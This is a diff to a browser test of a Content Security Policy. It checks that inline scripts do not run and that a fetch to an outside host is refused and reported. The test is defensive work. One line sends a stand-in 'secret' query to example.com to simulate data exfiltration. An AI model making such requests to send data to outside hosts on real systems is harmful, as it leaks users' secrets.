@@ -55,9 +55,9 @@ test('every page has the policy, inline script and handlers do not run, and fetc
   await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['script-src-elem inline', 'script-src-attr inline']));
   expect(await page.evaluate(() => [(window as { __pwned?: boolean }).__pwned, (window as { __pwnedToo?: boolean }).__pwnedToo])).toEqual([undefined, undefined]);
 
-  // A fetch to a host outside connect-src never leaves the browser; one to a model host is allowed (not sent here).
-  const blocked = await page.evaluate(() => fetch('https://example.com/collect?secret=1').then(() => 'sent', (e: Error) => e.name));
-  expect(blocked).toBe('TypeError');
+  // A fetch to a host outside connect-src is refused by the policy (a violation report names it; that it fails at
+  // all proves nothing, as a cross-origin fetch without CORS headers fails anyway).
+  await page.evaluate(() => fetch('https://example.com/collect?secret=1').catch(() => undefined));
   expect(await violations(page)).toContain('connect-src https://example.com/collect?secret=1');
 });
 
